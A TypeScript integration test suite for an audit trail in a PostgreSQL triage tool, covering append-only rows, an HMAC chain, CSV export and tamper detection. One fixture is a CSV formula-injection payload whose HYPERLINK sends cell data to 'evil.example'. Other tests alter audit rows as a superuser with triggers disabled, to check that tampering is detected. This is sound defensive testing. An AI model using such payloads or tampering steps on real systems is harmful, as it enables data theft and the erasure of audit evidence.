// The audit trail against a real store: write-ahead intent/outcome rows, fail closed, the append-only
// trigger, the HMAC chain under concurrency and under tampering by a superuser, the list/CSV API and
// the CLI's `audit verify`. Real clusters, no mocks.
import { spawn } from "node:child_process";
import path from "node:path";
import type pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AuditEntry } from "../../lib/audit";
import { GET as auditRoute } from "../../app/api/audit/route";
import { GET as verifyRoute } from "../../app/api/audit/verify/route";
import { appendRow } from "../../lib/server/audit/chain";
import { csvResponse } from "../../lib/server/audit/export";
import { setAuditKey } from "../../lib/server/audit/key";
import { listAuditEntries } from "../../lib/server/audit/query";
import { verifyChain } from "../../lib/server/audit/verify";
import { audited, auditEvents, AuditUnavailableError, recordRefusal, type AuditIntent } from "../../lib/server/audit/write";
import { createToken } from "../../lib/server/auth/api-tokens";
import { addUser } from "../../lib/server/auth/users";
import { startCluster, type LocalCluster } from "../../lib/server/local-cluster";
import { migrate } from "../../lib/server/store/migrate";
import { createPrismaClient, type Db } from "../../lib/server/store/prisma";
import { clearStore, setStore } from "../../lib/server/store/store";
import { openClient } from "../fixtures/pg-client";

const KEY = "test-audit-key-0123456789abcdefghijklmnop";
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

const intent = (over: Partial<AuditIntent> = {}): AuditIntent => ({
  actor: { userId: "u-1", username: "alice", role: "operator", via: "session", sessionId: "sess-1", clientAddr: "192.0.2.7", userAgent: "vitest" },
  targetId: "default",
  action: "session.cancel",
  subject: { pid: 4242, backendStart: "2026-11-26T16:00:00.000Z", user: "odoo", database: "prod", applicationName: "odoo-report", state: "active", query: "select pg_sleep(60)", xactMs: 1200 },
  sql: "SELECT pg_cancel_backend($1)",
  reason: "runaway report",
  ...over,
});

function cli(args: string[], env: Record<string, string | undefined>): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const c = spawn(process.execPath, ["--import", "tsx", "scripts/triage-cli.ts", ...args], {
      cwd: path.resolve(__dirname, "../.."),
      env: { ...process.env, TRIAGE_AUDIT_KEY: undefined, TRIAGE_AUDIT_KEY_FILE: undefined, ...env } as NodeJS.ProcessEnv,
      stdio: ["ignore", "pipe", "pipe"],
    });
    let stdout = "";
    let stderr = "";
    c.stdout.on("data", (d) => (stdout += d));
    c.stderr.on("data", (d) => (stderr += d));
    c.on("error", reject);
    c.on("close", (status) => resolve({ status, stdout, stderr }));
  });
}

describe("audit trail", () => {
  let cluster: LocalCluster;
  let db: Db;
  let raw: pg.Client;
  let url: string;

  async function freshDb(name: string): Promise<string> {
    const admin = await openClient(cluster.url, "audit-test-admin");
    await admin.query(`CREATE DATABASE ${name}`);
    await admin.end();
    const u = cluster.urlFor(name);
    await migrate(u);
    return u;
  }

  beforeAll(async () => {
    cluster = await startCluster({ kind: "embedded-18" });
    url = await freshDb("audit");
    db = createPrismaClient(url);
    raw = await openClient(url, "audit-test-raw");
    setAuditKey(KEY);
  });

  afterAll(async () => {
    clearStore();
    await db?.$disconnect();
    await raw?.end().catch(() => {});
    await cluster?.destroy();
  });

  it("audited() commits the intent before the callback, then the outcome with its duration; both are emitted", async () => {
    const seen: AuditEntry[] = [];
    const onEntry = (e: AuditEntry) => seen.push(e);
    auditEvents().on("entry", onEntry);
    let intentSeenByOthers: Record<string, unknown> | undefined;
    const r = await audited(db, intent(), async () => {
      // Another connection sees the intent: it is committed, not pending in a transaction around us.
      intentSeenByOthers = (await raw.query(`SELECT phase, action, outcome FROM "AuditEvent" ORDER BY id DESC LIMIT 1`)).rows[0];
      await sleep(40);
      return { outcome: "ok" as const, message: "cancel signalled", result: { signalled: true } };
    });
    auditEvents().off("entry", onEntry);
    expect(intentSeenByOthers).toEqual({ phase: "intent", action: "session.cancel", outcome: null });
    expect(r).toMatchObject({ outcome: "ok", message: "cancel signalled", result: { signalled: true } });
    const { rows } = await raw.query(`SELECT id::text, phase, "intentId"::text, outcome, message, "durationMs", username, "sessionId", subject, sql, reason FROM "AuditEvent" WHERE id IN ($1, $2) ORDER BY id`, [r.auditId, r.outcomeId]);
    expect(rows[0]).toMatchObject({ id: r.auditId, phase: "intent", intentId: null, outcome: null, durationMs: null, username: "alice", sessionId: "sess-1", sql: "SELECT pg_cancel_backend($1)", reason: "runaway report" });
    expect(rows[0].subject).toMatchObject({ pid: 4242, query: "select pg_sleep(60)" });
    expect(rows[1]).toMatchObject({ id: r.outcomeId, phase: "outcome", intentId: r.auditId, outcome: "ok", message: "cancel signalled" });
    expect(rows[1].durationMs).toBeGreaterThanOrEqual(35);
    expect(rows[1].durationMs).toBeLessThan(2000);
    expect(seen.map((e) => [e.id, e.phase, e.outcome])).toEqual([[r.auditId, "intent", null], [r.outcomeId, "outcome", "ok"]]);
    expect(seen[0].actor).toEqual(intent().actor);
  });

  it("a throwing callback is recorded as error with its message, and the error is rethrown", async () => {
    const boom = new Error("permission denied to signal backend 4242");
    await expect(audited(db, intent({ action: "session.terminate" }), async () => { throw boom; })).rejects.toBe(boom);
    const { rows } = await raw.query(`SELECT phase, action, outcome, message, "durationMs" FROM "AuditEvent" ORDER BY id DESC LIMIT 2`);
    expect(rows[1]).toMatchObject({ phase: "intent", action: "session.terminate" });
    expect(rows[0]).toMatchObject({ phase: "outcome", action: "session.terminate", outcome: "error", message: boom.message });
    expect(rows[0].durationMs).toBeGreaterThanOrEqual(0);
  });

  it("recordRefusal() writes one outcome row with no intent", async () => {
    const e = await recordRefusal(db, { ...intent(), sql: null, message: "pid now belongs to another session" });
    expect(e).toMatchObject({ phase: "outcome", intentId: null, outcome: "refused", message: "pid now belongs to another session", sql: null });
    expect(e.subject).toMatchObject({ pid: 4242 });
  });

  it("the table refuses UPDATE, DELETE and TRUNCATE", async () => {
    await expect(raw.query(`UPDATE "AuditEvent" SET reason = 'edited' WHERE id = 1`)).rejects.toThrow(/append-only: UPDATE/);
    await expect(raw.query(`DELETE FROM "AuditEvent" WHERE id = 1`)).rejects.toThrow(/append-only: DELETE/);
    await expect(raw.query(`TRUNCATE "AuditEvent"`)).rejects.toThrow(/append-only: TRUNCATE/);
    expect((await verifyChain(db)).ok).toBe(true);
  });

  it("20 concurrent actions from two clients (as two processes would) keep the chain valid and gap-free", async () => {
    const other = createPrismaClient(url);
    try {
      const before = (await raw.query(`SELECT count(*)::int AS n FROM "AuditEvent"`)).rows[0].n as number;
      const t = Date.now();
      await Promise.all(
        Array.from({ length: 20 }, (_, i) =>
          audited(i % 2 ? db : other, intent({ subject: { pid: 1000 + i, query: `select ${i}` } }), async () => ({ outcome: "ok" as const, result: i })),
        ),
      );
      const ms = Date.now() - t;
      const { rows } = await raw.query(`SELECT count(*)::int AS n, max(id)::int AS max, min(id)::int AS min FROM "AuditEvent"`);
      expect(rows[0]).toEqual({ n: before + 40, max: before + 40, min: 1 });
      expect(await verifyChain(db)).toEqual({ ok: true, checked: before + 40 });
      expect(ms).toBeLessThan(10_000);
    } finally {
      await other.$disconnect();
    }
  });

  describe("list and export", () => {
    let token = "";
    const evil = '=HYPERLINK("http://evil.example/?"&A1, "click"), then\r\nsecond line, "quoted"';

    beforeAll(async () => {
      await audited(db, intent({ targetId: "erp", actor: { ...intent().actor, username: "bob" }, subject: { pid: 77, query: evil, applicationName: "+odoo" } }), async () => ({ outcome: "not_found" as const, result: null }));
      const user = await addUser(db, { username: "viewer1", password: "viewer-password-1", role: "viewer" }, { scrypt: { N: 1024, r: 8, p: 1 } });
      ({ token } = await createToken(db, user.id, "audit-test"));
      setStore({ prisma: db, url, embedded: false, stop: async () => {} });
    });

    const call = (route: typeof auditRoute, qs: string) =>
      route(new Request(`http://triage.test/api/audit${qs}`, { headers: { authorization: `Bearer ${token}` } }), { params: Promise.resolve({}) });

    it("filters and pages newest first", async () => {
      const bob = await listAuditEntries(db, { actor: "bob" });
      expect(bob.entries.map((e) => [e.phase, e.outcome, e.targetId])).toEqual([["outcome", "not_found", "erp"], ["intent", null, "erp"]]);
      expect(bob.nextCursor).toBeUndefined();
      expect((await listAuditEntries(db, { q: "HYPERLINK(\"http" })).entries).toHaveLength(2);
      expect((await listAuditEntries(db, { q: "100%" })).entries).toHaveLength(0);
      expect((await listAuditEntries(db, { outcome: "error" })).entries.map((e) => e.action)).toEqual(["session.terminate"]);
      const p1 = await listAuditEntries(db, {}, { limit: 5 });
      const p2 = await listAuditEntries(db, {}, { limit: 5, cursor: p1.nextCursor });
      expect(p1.entries).toHaveLength(5);
      const total = (await raw.query(`SELECT max(id)::text AS max FROM "AuditEvent"`)).rows[0].max as string;
      expect(p1.entries[0].id).toBe(total); // numeric order, not text order ("9" > "49")
      expect(BigInt(p1.entries[0].id)).toBeGreaterThan(BigInt(p1.entries[4].id));
      expect(BigInt(p2.entries[0].id)).toBe(BigInt(p1.entries[4].id) - 1n);
      expect((await listAuditEntries(db, { since: new Date(Date.now() + 60_000) })).entries).toEqual([]);
    });

    it("exports CSV with RFC 4180 quoting and formula cells neutralised", async () => {
      const res = await csvResponse(db, { actor: "bob" });
      expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="pg-triage-audit-\d{8}T\d{6}Z\.csv"$/);
      const text = await res.text();
      const quoted = `"'${evil.replace(/"/g, '""')}"`;
      expect(text.startsWith("id,at,phase,")).toBe(true);
      expect(text.split(quoted)).toHaveLength(3); // in both rows, inside quotes, with the leading ' added
      expect(text).toContain(",'+odoo,");
      expect(text.endsWith("\r\n")).toBe(true);
    });

    it("through the API: JSON, CSV, 400 naming the field, 401 without credentials", async () => {
      const j = await call(auditRoute, "?actor=bob&limit=1");
      expect(j.status).toBe(200);
      const body = (await j.json()) as { entries: AuditEntry[]; nextCursor?: string };
      expect(body.entries).toHaveLength(1);
      expect(body.entries[0]).toMatchObject({ outcome: "not_found", actor: { username: "bob" } });
      expect(body.nextCursor).toBe(body.entries[0].id);
      const c = await call(auditRoute, "?actor=bob&format=csv");
      expect(c.status).toBe(200);
      expect((await c.text()).split("\r\n")[0]).toMatch(/^id,at,phase,/);
      const bad = await call(auditRoute, "?limit=5000");
      expect(bad.status).toBe(400);
      expect(((await bad.json()) as { error: { message: string } }).error.message).toMatch(/^limit: /);
      const anon = await auditRoute(new Request("http://triage.test/api/audit"), { params: Promise.resolve({}) });
      expect(anon.status).toBe(401);
      const v = await call(verifyRoute, "/verify");
      expect(await v.json()).toMatchObject({ ok: true });
    });
  });

  describe("tampering", () => {
    let turl: string;
    let tdb: Db;
    const key = Buffer.from(KEY);
    const row = (i: number) => ({ ...intent(), phase: "intent" as const, intentId: null, outcome: null, message: null, durationMs: null, reason: `r${i}` });
    const toNewRow = (i: number) => {
      const r = row(i);
      const a = r.actor;
      return {
        phase: r.phase, intentId: null, action: r.action, targetId: "default", userId: a.userId, username: a.username, role: a.role, via: a.via,
        sessionId: a.sessionId ?? null, tokenId: null, clientAddr: a.clientAddr, userAgent: a.userAgent, subject: r.subject, sql: r.sql ?? null,
        reason: r.reason, outcome: null, message: null, durationMs: null,
      };
    };

    beforeAll(async () => {
      turl = await freshDb("audit_tamper");
      tdb = createPrismaClient(turl);
      for (let i = 1; i <= 6; i++) await appendRow(tdb, key, toNewRow(i));
    });
    afterAll(() => tdb?.$disconnect());

    const asSuperuser = async (sql: string) => {
      const c = await openClient(turl, "audit-test-tamper");
      try {
        await c.query(`ALTER TABLE "AuditEvent" DISABLE TRIGGER USER`); // what a superuser can always do
        await c.query(sql);
        await c.query(`ALTER TABLE "AuditEvent" ENABLE TRIGGER USER`);
      } finally {
        await c.end();
      }
    };
    const verifyCli = (env: Record<string, string> = { TRIAGE_AUDIT_KEY: KEY }) => cli(["audit", "verify"], { TRIAGE_STORE_URL: turl, ...env });

    it("verifies a sound chain; the CLI exits 0, and 1 without a key", async () => {
      expect(await verifyChain(tdb, key)).toEqual({ ok: true, checked: 6 });
      const [ok, nokey, wrongKey] = await Promise.all([
        verifyCli(),
        verifyCli({ TRIAGE_AUDIT_KEY_FILE: path.join(cluster.root, "no-such-audit.key") }),
        verifyCli({ TRIAGE_AUDIT_KEY: "another-key-another-key-another-key" }),
      ]);
      expect(ok).toMatchObject({ status: 0, stdout: "audit trail ok: 6 rows checked\n" });
      expect(nokey.status).toBe(1);
      expect(nokey.stderr).toMatch(/no audit key: TRIAGE_AUDIT_KEY is unset and .*no-such-audit\.key does not exist/);
      expect(wrongKey.status).toBe(1);
      expect(wrongKey.stdout).toMatch(/BROKEN at row 1: hash mismatch: row altered \(or the audit key is not the one/);
    });

    it("names exactly the row altered by SQL, whatever the column", async () => {
      await asSuperuser(`UPDATE "AuditEvent" SET reason = 'nothing to see' WHERE id = 3`);
      expect(await verifyChain(tdb, key)).toEqual({ ok: false, checked: 3, firstBroken: { id: "3", reason: "hash mismatch: row altered" } });
      await asSuperuser(`UPDATE "AuditEvent" SET reason = 'r3' WHERE id = 3`); // put back: the hash covers content only
      expect((await verifyChain(tdb, key)).ok).toBe(true);
      await asSuperuser(`UPDATE "AuditEvent" SET subject = jsonb_set(subject, '{pid}', '1') WHERE id = 4`);
      expect((await verifyChain(tdb, key)).firstBroken).toEqual({ id: "4", reason: "hash mismatch: row altered" });
      await asSuperuser(`UPDATE "AuditEvent" SET subject = jsonb_set(subject, '{pid}', '4242') WHERE id = 4`);
      await asSuperuser(`UPDATE "AuditEvent" SET at = at + interval '1 microsecond' WHERE id = 2`);
      expect((await verifyChain(tdb, key)).firstBroken).toEqual({ id: "2", reason: "hash mismatch: row altered" });
      await asSuperuser(`UPDATE "AuditEvent" SET at = at - interval '1 microsecond' WHERE id = 2`);
      expect((await verifyChain(tdb, key)).ok).toBe(true);
    });

    it("a deleted row breaks the chain at the next one; the CLI exits 1 and prints it", async () => {
      await asSuperuser(`DELETE FROM "AuditEvent" WHERE id = 4`);
      const r = await verifyChain(tdb, key);
      expect(r).toMatchObject({ ok: false, checked: 4, firstBroken: { id: "5" } });
      expect(r.firstBroken!.reason).toMatch(/^missing row before 5: ids jump from 3 to 5/);
      const out = await verifyCli();
      expect(out.status).toBe(1);
      expect(out.stdout).toMatch(/^audit trail BROKEN at row 5: missing row before 5/);
      // Renumbering to hide the gap breaks the link instead.
      await asSuperuser(`UPDATE "AuditEvent" SET id = id - 1 WHERE id >= 5`);
      expect((await verifyChain(tdb, key)).firstBroken).toEqual({ id: "4", reason: "hash mismatch: row altered" });
      await asSuperuser(`DELETE FROM "AuditEvent" WHERE id = 1`);
      expect((await verifyChain(tdb, key)).firstBroken?.reason).toMatch(/^missing row before 2: the trail starts at id 2/);
    });
  });

  it("fails closed when the store is down: AuditUnavailableError, and the callback never runs", async () => {
    await cluster.stop();
    let ran = false;
    const err = await audited(db, intent(), async () => {
      ran = true;
      return { outcome: "ok" as const, result: null };
    }).catch((e: unknown) => e);
    expect(ran).toBe(false);
    expect(err).toBeInstanceOf(AuditUnavailableError);
    expect((err as Error).message).toMatch(/^the audit trail cannot be written: .+; nothing was done$/);
    await expect(recordRefusal(db, { ...intent(), message: "x" })).rejects.toBeInstanceOf(AuditUnavailableError);
  });
});
